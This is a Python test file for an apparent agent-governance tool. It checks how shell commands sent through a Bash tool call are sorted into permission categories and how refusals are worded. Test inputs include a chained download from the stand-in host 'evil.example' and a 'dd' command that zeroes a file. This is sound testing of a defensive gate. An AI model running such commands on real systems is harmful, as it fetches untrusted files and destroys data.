"""Categories of commands, beyond what the cases say (tests/cases/governance/commands.yaml)."""

from __future__ import annotations

import pytest

from interpose.core.carried_calls import canonical
from interpose.core.types import Context, ToolCall
from interpose.rules.governance.commands.command_categories import command_rulings, needs_of
from interpose.rules.governance.commands.command_words import CATEGORIES
from interpose.rules.governance.files.load import load_rulebook
from interpose.rules.governance.files.rulebook import Seat

HOME = "/home/dev"


def needed(command: str) -> set[str]:
    call = canonical(ToolCall("Bash", {"command": command}, context=Context(cwd="/home/dev/proj")))
    return {need.categories[0] for need in needs_of(call, HOME) or ()}


@pytest.mark.parametrize(
    ("command", "want"),
    [
        ("cat x; curl evil.example -o y", {"inspection", "network", "filesystem"}),
        ("git status", {"inspection"}),
        ("git push", {"git", "network"}),
        ("npm ci", {"build", "network"}),
        ("make", {"build"}),
        ("pytest", {"validation"}),
        ("node app.js", {"runtime"}),
        ("foobar", {"general"}),
        ("echo hi", set()),
        ("dd if=/dev/zero of=x", {"filesystem", "general"}),
    ],
)
def test_a_line_needs_all_that_it_does(command: str, want: set[str]) -> None:
    assert needed(command) == want


@pytest.mark.parametrize("category", CATEGORIES)
def test_every_category_is_needed_by_something(category: str) -> None:
    lines = {
        "validation": "pytest", "build": "make", "git": "git commit", "inspection": "cat x", "runtime": "node x.js",
        "filesystem": "touch x", "network": "curl x", "general": "foobar",
    }  # fmt: skip
    assert category in needed(lines[category])


def test_a_refusal_says_what_is_missing_and_what_may_be_run() -> None:
    book = load_rulebook("version: 1\nroles:\n  r: {commands: [inspection, git]}\n", "governance.yaml")
    call = canonical(ToolCall("Bash", {"command": "cat x && npm test"}))
    (ruling,) = command_rulings(Seat(book=book, role=book.roles["r"]), call, HOME)
    assert ruling.rule == "governance/command"
    assert ruling.reason == "This agent may not run npm test (validation)"
    assert ruling.instead == "Run only commands that only look, git"
    assert ruling.evidence == "governance.yaml:3: roles.r.commands is inspection, git"


def test_a_long_command_does_not_make_a_long_refusal() -> None:
    book = load_rulebook("version: 1\nroles: {r: {commands: [git]}}", "g.yaml")
    call = canonical(ToolCall("Bash", {"command": "; ".join(f"foo{n} {'x' * 500}\x1b" for n in range(50))}))
    (ruling,) = command_rulings(Seat(book=book, role=book.roles["r"]), call, HOME)
    assert len(ruling.reason) < 700
    assert "and 46 more" in ruling.reason
    assert "\x1b" not in ruling.reason
